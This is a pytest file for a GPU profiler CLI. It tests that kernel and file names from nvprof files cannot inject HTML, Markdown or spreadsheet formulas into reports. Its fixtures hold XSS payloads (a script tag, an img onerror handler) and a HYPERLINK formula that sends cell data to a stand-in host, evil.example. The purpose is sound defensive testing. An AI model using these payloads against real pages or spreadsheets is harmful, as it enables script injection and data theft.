"""Output safety: names from profiler files cannot inject HTML or Markdown, or formulas into a spreadsheet.

A real nvprof metrics file (the K40c fixture) is copied under a hostile file name, with its kernel
renamed to hostile text and a second kernel whose name is a spreadsheet formula. It is imported
through the CLI, and each output is read back by its real consumer: html.parser for the report and
the Markdown (which renders inline HTML), the csv module for CSV.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from gpuprof.cli import main
from gpuprof.render import emit
from gpuprof.store import open_store

FIXTURE = Path(__file__).parent / "fixtures" / "profiler-outputs" / "nvprof_csv_metrics_k40c_flop_stall.csv"
ORIGINAL = "__kernel___forma_kernel__0__(float*, int, int, int, int, int, int, float*)"
HOSTILE = 'void f<float>(T*) <script>alert("x")</script> | <img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Elements(HTMLParser):
    """Every start tag in a document, the attribute names, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(document: str) -> _Elements:
    parser = _Elements()
    parser.feed(document)
    parser.close()
    return parser


@pytest.fixture
def hostile_file(tmp_path) -> Path:
    """The K40c nvprof metrics, kernel renamed to HOSTILE, plus a copy of its rows for FORMULA."""
    lines = FIXTURE.read_text().splitlines(keepends=True)
    rows = [line for line in lines if line.startswith('"Tesla K40c (0)"')]
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    text = "".join(lines).replace(f'"{ORIGINAL}"', quoted)
    text += "".join(row.replace(f'"{ORIGINAL}"', '"' + FORMULA.replace('"', '""') + '"') for row in rows)
    path = tmp_path / 'run <script>alert(1) "q"; & x.csv'
    path.write_text(text)
    return path


def _import(path: Path, fmt: str, store: Path) -> str:
    result = CliRunner().invoke(main, ["import", str(path), "--format", fmt, "--store", str(store)])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_markdown_escapes_kernel_names(hostile_file, tmp_path):
    text = _import(hostile_file, "markdown", tmp_path / "s.sqlite")
    assert 'void f&lt;float&gt;(T*) &lt;script&gt;alert("x")&lt;/script&gt; \\| &lt;img src=x' in text
    assert _parse(text).tags == []  # Markdown passes inline HTML through: there must be none
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert len({line.count(" | ") for line in rows}) == 1  # the '|' in the name did not add a column


def test_csv_cells_cannot_start_a_formula(hostile_file, tmp_path):
    text = _import(hostile_file, "csv", tmp_path / "s.sqlite")
    records = list(csv.reader(io.StringIO(text)))
    header, body = records[0], records[1:]
    kernels = [row[header.index("kernel")] for row in body]
    assert f"'{FORMULA}" in kernels and HOSTILE in kernels  # kept whole, formula neutralised
    assert not [cell for row in records for cell in row if cell.startswith(FORMULA_STARTS)]


def test_csv_prefixes_every_formula_start_and_leaves_numbers_alone():
    frame = pd.DataFrame(
        {"name": ["=1+2", "+SUM(A1)", "-2+3", "@cmd", "\tx", "plain"], "value": [-1.5, 2.0, -3.0, 0.0, 1e-9, -2e9]}
    )
    records = list(csv.reader(io.StringIO(emit(frame, "csv"))))
    assert [r[0] for r in records[1:]] == ["'=1+2", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tx", "plain"]
    assert [float(r[1]) for r in records[1:]] == [-1.5, 2.0, -3.0, 0.0, 1e-9, -2e9]


def test_a_carriage_return_in_a_cell_does_not_split_the_row():
    frame = pd.DataFrame({"name": ["\rx", "a\rb"], "value": [1.0, 2.0]})
    records = list(csv.reader(io.StringIO(emit(frame, "csv"), newline="")))
    assert records == [["name", "value"], ["'\rx", "1.0"], ["a\rb", "2.0"]]


def test_html_report_escapes_kernel_and_file_names(hostile_file, tmp_path):
    report, store = tmp_path / "report.html", tmp_path / "empty.sqlite"
    with open_store(store) as opened:
        opened._db  # noqa: B018 - created now, with no run (a store is otherwise created by its first write)
    result = CliRunner().invoke(
        main, ["compare", "--import", str(hostile_file), "--html", str(report), "--store", str(store)]
    )
    assert result.exit_code == 0, result.output
    document = report.read_text()
    parsed = _parse(document)
    assert "script" not in parsed.tags
    assert not [name for name in parsed.attributes if name.startswith("on")]  # no event handlers
    assert parsed.attributes <= {"lang", "charset", "class", "href", "id", "alt", "src", "colspan", "rowspan"}
    text = "".join(parsed.text)
    assert HOSTILE in text  # shown to the reader as text, whole
    assert str(hostile_file) in text


def test_every_text_format_keeps_a_hostile_name_in_one_cell():
    frame = pd.DataFrame({"kernel": [HOSTILE, "k\nsecond line"], "value": [1.0, 2.0]})
    markdown = emit(frame, "markdown").splitlines()
    assert len(markdown) == 4  # header, rule, two rows: the newline did not start a new row
    assert _parse(emit(frame, "markdown")).tags == []
    assert list(csv.reader(io.StringIO(emit(frame, "csv"))))[1][0] == HOSTILE
